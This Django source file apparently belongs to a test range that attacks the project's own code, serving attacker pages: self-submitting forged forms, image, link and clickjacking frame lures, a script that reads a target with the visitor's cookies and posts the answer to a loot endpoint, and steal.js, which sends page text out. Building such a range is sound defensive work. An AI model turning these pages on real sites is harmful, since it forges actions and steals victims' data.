"""The attacker's pages for attacks on the project's own code, at the attacker's host and at a sibling of the victim."""

import json
from collections.abc import Callable
from functools import wraps

from django.http import HttpRequest, HttpResponse, HttpResponseBadRequest
from django.urls import path
from django.utils.html import format_html, format_html_join
from django.utils.safestring import SafeString, mark_safe

from attack_range import attempts
from attack_range.weak.bounds import forget

# Most texts that are kept of what reaches the attacker in one attempt, and most characters of each.
LOOT_MAX, LENGTH_MAX = 100, 20_000
PAGE = "<!doctype html><html lang=en><title>A prize</title><link rel=icon href='data:,'>{}"
READ = """<script type=module>
const answer = await fetch({to}, {{credentials: "include"}});
await fetch({loot}, {{method: "POST", mode: "no-cors", body: await answer.text()}});
</script>"""
STEAL = """const loot = new URL("loot" + new URL(document.currentScript.src).search, document.currentScript.src);
addEventListener("load", () => fetch(loot, {method: "POST", mode: "no-cors", body: document.body.innerText}));
"""

View = Callable[[HttpRequest], HttpResponse]


def wants(*names: str) -> Callable[[View], View]:
    """Makes a view answer 400 when its query lacks one of these names."""

    def decorate(view: View) -> View:
        @wraps(view)
        def checked(request: HttpRequest) -> HttpResponse:
            if missing := [name for name in names if name not in request.GET]:
                return HttpResponseBadRequest(f"The query lacks {', '.join(missing)}.")
            return view(request)

        return checked

    return decorate


@wants("to", "fields", "enctype")
def form(request: HttpRequest) -> HttpResponse:
    """A form that submits itself to `to`. 400 unless `fields` is a JSON object."""
    try:
        fields = dict(json.loads(request.GET["fields"]))
    except (ValueError, TypeError, RecursionError):
        return HttpResponseBadRequest("The fields must be a JSON object.")
    inputs = format_html_join("", "<input type=hidden name='{}' value='{}'>", fields.items())
    return _page(
        "<form method=post action='{}' enctype='{}'>{}</form><script>document.forms[0].submit()</script>",
        request.GET["to"],
        request.GET["enctype"],
        inputs,
    )


@wants("to")
def image(request: HttpRequest) -> HttpResponse:
    """An image whose address is `to`."""
    return _page("<img src='{}' alt=''>", request.GET["to"])


@wants("to")
def frame(request: HttpRequest) -> HttpResponse:
    """A frame that shows `to`. A real attacker would make it transparent and put it over a button of another page."""
    return _page("<iframe src='{}' width=1000 height=1000 title=Victim></iframe>", request.GET["to"])


@wants("to")
def link(request: HttpRequest) -> HttpResponse:
    """A link to `to`."""
    return _page("<a href='{}'>A prize</a>", request.GET["to"])


@wants("to", "loot")
def read(request: HttpRequest) -> HttpResponse:
    """A script that reads `to` with the visitor's cookies, and sends the answer to `loot`."""
    script = READ.format(to=_as_script(request.GET["to"]), loot=_as_script(request.GET["loot"]))
    return _page("{}", mark_safe(script))  # noqa: S308


def steal(request: HttpRequest) -> HttpResponse:
    """A script that sends the text of the page it runs in to the attacker."""
    return HttpResponse(STEAL, "text/javascript")


def loot(request: HttpRequest) -> HttpResponse:
    """Stores what reaches the attacker."""
    if attempt := attempts.find(request.GET.get("attempt", "")):
        attempt.loot.append(request.body.decode(errors="replace")[:LENGTH_MAX])
        forget(attempt.loot, LOOT_MAX)
    return HttpResponse("Thanks")


def _page(content: str, *values: str | SafeString) -> HttpResponse:
    return HttpResponse(format_html(PAGE, format_html(content, *values)))


def _as_script(text: str) -> str:
    return json.dumps(text).replace("<", "\\u003c")


urlpatterns = [
    path("form", form),
    path("image", image),
    path("frame", frame),
    path("link", link),
    path("read", read),
    path("steal.js", steal),
    path("loot", loot),
]
